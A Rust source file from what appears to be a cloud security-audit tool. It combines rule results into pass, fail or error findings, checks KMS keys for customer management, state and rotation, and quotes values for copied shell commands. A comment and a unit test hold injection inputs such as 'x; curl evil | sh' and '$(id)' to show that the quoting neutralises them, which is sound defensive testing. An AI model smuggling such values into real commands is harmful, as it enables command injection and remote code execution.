//! The verdict most rules reach for one resource: a list of problems found, of inputs that
//! could not be read, and of evidence. Fail wins over error (a problem seen in readable data is
//! certain whatever else is unreadable), error wins over pass (fail closed).

use crate::finding::{Evidence, Finding, Status};
use crate::rules::{collect_error_evidence, RuleContext};
use crate::snapshot::{
    key_id_of, CollectError, Collected, IngressRule, KeyRotation, RegionSnapshot,
};

const DESCRIBE_KEY: &str = "kms:DescribeKey";
const ROTATION: &str = "kms:GetKeyRotationStatus";

#[derive(Debug, Default)]
pub struct Judgement {
    problems: Vec<String>,
    /// (what could not be read, why).
    unreadable: Vec<(String, CollectError)>,
    /// Inputs the snapshot does not hold at all (not collected), as sentences.
    missing: Vec<String>,
    /// What was read but cannot be judged offline (a policy condition the evaluator does not
    /// know), as sentences.
    undetermined: Vec<String>,
    evidence: Vec<Evidence>,
}

impl Judgement {
    pub fn new() -> Self {
        Judgement::default()
    }

    pub fn problem(&mut self, text: impl Into<String>) {
        self.problems.push(text.into());
    }

    pub fn unreadable(&mut self, what: impl Into<String>, error: &CollectError) {
        self.unreadable.push((what.into(), error.clone()));
    }

    pub fn missing(&mut self, text: impl Into<String>, evidence: Evidence) {
        self.missing.push(text.into());
        self.evidence.push(evidence);
    }

    /// Something read that the rule cannot decide either way: `error`, never `pass`.
    pub fn undetermined(&mut self, text: impl Into<String>) {
        self.undetermined.push(text.into());
    }

    /// Takes in another judgement of a part of the same resource; its problems get `prefix`,
    /// which names the part.
    pub fn absorb(&mut self, part: Judgement, prefix: &str) {
        self.problems
            .extend(part.problems.into_iter().map(|p| format!("{prefix}{p}")));
        self.unreadable.extend(part.unreadable);
        self.missing.extend(part.missing);
        self.undetermined.extend(part.undetermined);
        self.evidence.extend(part.evidence);
    }

    pub fn evidence(&mut self, evidence: Evidence) {
        self.evidence.push(evidence);
    }

    /// The finding: `fail` with `subject` and the problems, else `error` naming what could not
    /// be read, else `pass` with `pass_message`.
    pub fn finding(
        self,
        ctx: &RuleContext,
        region: &str,
        resource: &str,
        subject: &str,
        pass_message: String,
    ) -> Finding {
        let Judgement {
            problems,
            unreadable,
            missing,
            undetermined,
            mut evidence,
        } = self;
        let error_evidence: Vec<Evidence> = unreadable
            .iter()
            .map(|(_, e)| collect_error_evidence(region, e))
            .collect();
        let not_judged = || {
            unreadable
                .iter()
                .map(|(what, e)| format!("{what} ({} failed with {})", e.operation, e.code))
                .chain(missing.iter().cloned())
                .chain(undetermined.iter().cloned())
                .collect::<Vec<_>>()
        };
        if !problems.is_empty() {
            let mut message = format!("{subject}: {}.", problems.join("; "));
            let also = not_judged();
            if !also.is_empty() {
                message.push_str(&format!(" Not checked: {}.", also.join("; ")));
            }
            let mut finding = ctx.finding(Status::Fail, region, resource, message);
            evidence.extend(error_evidence);
            finding.evidence = evidence;
            return finding;
        }
        if let Some((what, error)) = unreadable.first() {
            let mut finding = ctx.unreadable(region, resource, what, error);
            let others: Vec<String> = not_judged().into_iter().skip(1).collect();
            if !others.is_empty() {
                finding
                    .message
                    .push_str(&format!(" Also not checked: {}.", others.join("; ")));
            }
            // ctx.unreadable attached the first error already.
            finding.evidence.extend(error_evidence.into_iter().skip(1));
            finding.evidence.extend(evidence);
            return finding;
        }
        if !missing.is_empty() {
            let mut finding = ctx.finding(
                Status::Error,
                region,
                resource,
                format!(
                    "{subject}: cannot judge: {}.",
                    missing
                        .iter()
                        .chain(&undetermined)
                        .cloned()
                        .collect::<Vec<_>>()
                        .join("; ")
                ),
            );
            finding.remediation = "Scan again with this profile (bedrock-audit scan --config <profile>) so the snapshot holds what the rule needs.".into();
            finding.evidence = evidence;
            return finding;
        }
        if !undetermined.is_empty() {
            let mut finding = ctx.finding(
                Status::Error,
                region,
                resource,
                format!("{subject}: cannot judge: {}.", undetermined.join("; ")),
            );
            finding.remediation = "The rule does not guess: review what it names by hand, simplify it to what the rule can evaluate, or waive this finding with a justification.".into();
            finding.evidence = evidence;
            return finding;
        }
        let mut finding = ctx.finding(Status::Pass, region, resource, pass_message);
        finding.evidence = evidence;
        finding
    }
}

/// Judges the KMS key a resource is encrypted with: customer managed, Enabled and rotating
/// automatically. A key the snapshot does not hold, or could not describe, cannot be judged.
pub fn judge_kms_key(
    judgement: &mut Judgement,
    snapshot: &RegionSnapshot,
    region: &str,
    reference: Option<&str>,
) {
    let Some(reference) = reference else {
        judgement.problem(
            "it has no KMS key, so it is encrypted only with AWS-owned keys the organisation cannot audit or revoke",
        );
        return;
    };
    let key = match snapshot.kms_key(reference) {
        None => {
            judgement.missing(
                format!("key {reference} was not described ({DESCRIBE_KEY} was not called for it)"),
                Evidence::new(DESCRIBE_KEY, Some(region))
                    .with("KeyId", reference)
                    .with("collected", false),
            );
            return;
        }
        Some(Collected::Failed { error }) => {
            judgement.unreadable(format!("KMS key {}", key_id_of(reference)), error);
            return;
        }
        Some(Collected::Ok { data }) => data,
    };
    let rotation = match key.rotation.as_result() {
        Ok(rotation) => Some(*rotation),
        Err(error) => {
            judgement.unreadable(format!("the rotation status of key {}", key.key_id), error);
            None
        }
    };
    judgement.evidence(
        Evidence::new(DESCRIBE_KEY, Some(region))
            .with("KeyId", &key.key_id)
            .with("Arn", &key.arn)
            .with("KeyManager", &key.key_manager)
            .with("KeyState", &key.key_state)
            .with("DeletionDate", &key.deletion_date),
    );
    if let Some(rotation) = rotation {
        judgement.evidence(
            Evidence::new(ROTATION, Some(region))
                .with("KeyId", &key.key_id)
                .with("rotation", rotation),
        );
    }
    if !key.key_manager.eq_ignore_ascii_case("CUSTOMER") {
        judgement.problem(format!(
            "key {} is managed by {}, not a customer-managed key",
            key.key_id, key.key_manager
        ));
    }
    if key.key_state.eq_ignore_ascii_case("PendingDeletion") {
        judgement.problem(format!(
            "key {} is scheduled for deletion{}: cancel it (aws kms cancel-key-deletion) or the data becomes unreadable",
            key.key_id,
            key.deletion_date
                .as_deref()
                .map(|d| format!(" on {d}"))
                .unwrap_or_default()
        ));
    } else if !key.key_state.eq_ignore_ascii_case("Enabled") {
        judgement.problem(format!(
            "key {} is {}, not Enabled",
            key.key_id, key.key_state
        ));
    }
    match rotation {
        Some(KeyRotation::Disabled) => judgement.problem(format!(
            "automatic rotation of key {} is off",
            key.key_id
        )),
        Some(KeyRotation::Unsupported) => judgement.problem(format!(
            "key {} cannot rotate automatically (imported material or custom key store): rotate it manually on a schedule, or use a KMS-generated symmetric key",
            key.key_id
        )),
        Some(KeyRotation::Enabled) | None => {}
    }
}

/// Whether an ingress rule lets TCP 443 in from somewhere.
pub fn admits_https(rule: &IngressRule) -> bool {
    let protocol_ok = matches!(rule.protocol.as_str(), "tcp" | "6" | "-1" | "all");
    let port_ok = rule.protocol == "-1"
        || match (rule.from_port, rule.to_port) {
            (Some(from), Some(to)) => (from..=to).contains(&443) || (from == -1 && to == -1),
            // No port range means every port.
            _ => true,
        };
    let has_source = !rule.cidr_blocks.is_empty()
        || !rule.source_group_ids.is_empty()
        || !rule.prefix_list_ids.is_empty();
    protocol_ok && port_ok && has_source
}

/// A value from the snapshot as one word of a POSIX shell command in a remediation: left as it
/// is when it holds only characters no shell treats specially, else single-quoted (a `'`
/// inside becomes `'\''`). A user or quota name set by someone else must not turn a
/// copied command into another one (`x; curl evil | sh`). Every rule that puts snapshot text
/// into a command goes through here.
pub fn shell_word(text: &str) -> std::borrow::Cow<'_, str> {
    let plain = !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
    if plain {
        std::borrow::Cow::Borrowed(text)
    } else {
        std::borrow::Cow::Owned(format!("'{}'", text.replace('\'', "'\\''")))
    }
}

#[cfg(test)]
mod shell_word_tests {
    use super::shell_word;

    #[test]
    fn plain_words_stay_and_anything_else_is_single_quoted() {
        assert_eq!(shell_word("L-1234ABCD"), "L-1234ABCD");
        assert_eq!(shell_word("dev.user@example.com"), "dev.user@example.com");
        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(shell_word("it's $(id)"), "'it'\\''s $(id)'");
        assert_eq!(shell_word(""), "''");
    }
}
